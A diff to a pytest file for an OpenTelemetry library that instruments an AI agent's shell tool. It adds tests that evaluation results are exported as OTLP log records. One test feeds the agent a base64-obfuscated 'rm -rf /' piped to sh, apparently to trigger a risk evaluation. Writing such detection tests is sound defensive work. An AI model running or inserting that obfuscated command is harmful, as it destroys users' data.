@@ -20,6 +20,7 @@ from pathlib import Path
 import pytest
 from opentelemetry.exporter.otlp.proto.grpc.trace_exporter import OTLPSpanExporter as GrpcSpanExporter
 from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter as HttpSpanExporter
+from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
 from opentelemetry.proto.collector.metrics.v1.metrics_service_pb2 import ExportMetricsServiceRequest
 from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
 from opentelemetry.sdk.metrics.export import PeriodicExportingMetricReader
@@ -221,6 +222,63 @@ def test_explicit_endpoint_and_store_path_export_to_both(tmp_path: Path, collect
     assert collector.posts("/v1/metrics") == []
     with LocalStore(tmp_path / "runs.db") as store:
         assert [r.name for r in store.runs()] == ["fixer"]
+
+
+def test_signals_go_over_otlp_as_gen_ai_evaluation_results(tmp_path: Path, collector: Collector) -> None:
+    run_python(
+        AGENT.replace("pytest -q", "echo cm0gLXJmIC8K | base64 -d | sh")
+        + "telemetry = ag.configure(); assert telemetry.logger_provider is not None; agent('go')\n",
+        tmp_path,
+        OTEL_EXPORTER_OTLP_ENDPOINT=collector.url,
+    )
+    records = [
+        (record, {a.key: a.value for a in record.attributes})
+        for _, body in collector.posts("/v1/logs")
+        for rl in ExportLogsServiceRequest.FromString(body).resource_logs
+        for sl in rl.scope_logs
+        for record in sl.log_records
+    ]
+    evaluations = [(r, a) for r, a in records if r.event_name == "gen_ai.evaluation.result"]
+    assert evaluations, collector.requests
+    record, attrs = evaluations[0]
+    assert attrs["gen_ai.evaluation.score.label"].string_value in ("low", "medium", "high", "critical")
+    assert attrs["gen_ai.evaluation.name"].string_value
+    assert len(record.trace_id) == 16 and len(record.span_id) == 8  # in the tool span's context
+    tool_spans = [
+        s
+        for _, body in collector.posts("/v1/traces")
+        for rs in ExportTraceServiceRequest.FromString(body).resource_spans
+        for ss in rs.scope_spans
+        for s in ss.spans
+        if s.name == "execute_tool run_shell"
+    ]
+    assert [s.span_id for s in tool_spans] == [record.span_id]
+
+
+def test_no_logs_pipeline_without_an_otlp_logs_endpoint(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    for name in list(os.environ):
+        if name.startswith("OTEL_"):
+            monkeypatch.delenv(name)
+    telemetry = _configure._build(
+        service_name="t", endpoint=None, protocol=None, store_path=tmp_path / "s.db",
+        resource_attributes=None, prometheus_port=None, span_processor="simple",
+    )  # fmt: skip
+    try:
+        assert telemetry.logger_provider is None
+    finally:
+        telemetry.shutdown()
+    monkeypatch.setenv("OTEL_EXPORTER_OTLP_LOGS_ENDPOINT", "http://127.0.0.1:9/v1/logs")
+    monkeypatch.setenv("OTEL_LOGS_EXPORTER", "none")
+    telemetry = _configure._build(
+        service_name="t", endpoint=None, protocol=None, store_path=tmp_path / "s.db",
+        resource_attributes=None, prometheus_port=None, span_processor="simple",
+    )  # fmt: skip
+    try:
+        assert telemetry.logger_provider is None
+    finally:
+        telemetry.shutdown()
 
 
 def free_port() -> int:
